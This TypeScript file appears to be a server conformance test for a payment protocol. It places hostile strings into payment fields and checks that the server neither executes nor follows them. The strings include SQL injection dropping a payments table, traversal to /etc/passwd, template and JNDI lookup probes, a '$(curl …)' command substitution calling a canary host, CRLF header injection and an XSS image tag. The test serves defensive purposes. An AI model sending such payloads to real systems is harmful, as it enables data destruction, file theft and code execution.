import { isObject } from "../../../protocol/headers.js";
import { serverScenario } from "../../../runner/scenario.js";

/** Texts that mean something to who does not keep them apart from code. `url` is a server that nobody has business with. */
const texts: Record<string, (url: string) => string> = {
  "a query": () => "'; DROP TABLE payments; --",
  "a path": () => "../../../../etc/passwd",
  "a template": () => "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
  "a lookup": (url) => `\${jndi:ldap://${new URL(url).host}/a}`,
  "a command": (url) => `$(curl ${url}/command)`,
  "a line of a header": () => "paid\r\nX-Injected: yes\r\n\r\n<p>",
  "a link": (url) => `${url}/callback`,
  "a script": (url) => `"><img src=${url}/image>`,
};

/** Where the text is put. A payment may be refused by it or taken; what it says must not happen. */
const places: Record<string, (message: Record<string, unknown>, text: string) => Record<string, unknown>> = {
  "unknown members": (message, text) => ({
    ...message,
    callback: text,
    webhookUrl: text,
    facilitator: text,
    notify: { url: text },
  }),
  resource: (message, text) => ({ ...message, resource: { url: text, description: text, mimeType: text } }),
  extensions: (message, text) => ({
    ...message,
    extensions: { [text]: { info: { url: text, callback: text }, schema: { $ref: text } } },
  }),
  extra: ({ accepted, ...rest }, text) => ({
    ...rest,
    ...(isObject(accepted)
      ? { accepted: { ...accepted, extra: { name: text, version: text, facilitator: text } } }
      : { extra: { name: text } }),
  }),
  "scheme and network": ({ accepted, ...rest }, text) =>
    isObject(accepted)
      ? { ...rest, accepted: { ...accepted, scheme: text, network: text } }
      : { ...rest, scheme: text, network: text },
  authorization: ({ payload, ...rest }, text) => {
    const own = payload as { authorization: object };
    return { ...rest, payload: { ...own, authorization: { ...own.authorization, to: text, nonce: text } } };
  },
};

export default serverScenario({
  id: "server/decoding/injection",
  title: "Text in a payment is neither executed nor followed",
  needs: ["exact-eip3009"],
  checks: {
    "link-not-followed": "payload-text-inert",
    "no-header-injected": "payload-text-inert",
    "no-server-error": "survives-malformed",
    "sells-afterwards": "valid-payment-served",
  },
  async run({ buyer, canary, quiet, expect }) {
    await buyer.pay();
    const { url, hits } = await canary();
    const later = await buyer.sign();
    for (const place of Object.values(places)) {
      for (const text of Object.values(texts)) {
        const payment = await buyer.sign({ message: (message) => place(message, text(url)) });
        const answer = await buyer.present(payment);
        expect("no-server-error").answered(answer);
        expect("no-header-injected").that(answer.headers["x-injected"] === undefined, "no header came out of the payment", {
          expected: "no X-Injected header",
          actual: answer.headers,
          evidence: [answer.id],
        });
      }
    }
    expect("sells-afterwards").served(await buyer.present(later));
    await quiet(buyer);
    expect("link-not-followed").that(
      hits().length === 0,
      hits().length === 0 ? "nobody came" : "a link in a payment was followed",
      {
        expected: "no request to the address that stood in the payment",
        actual: hits(),
      },
    );
  },
});
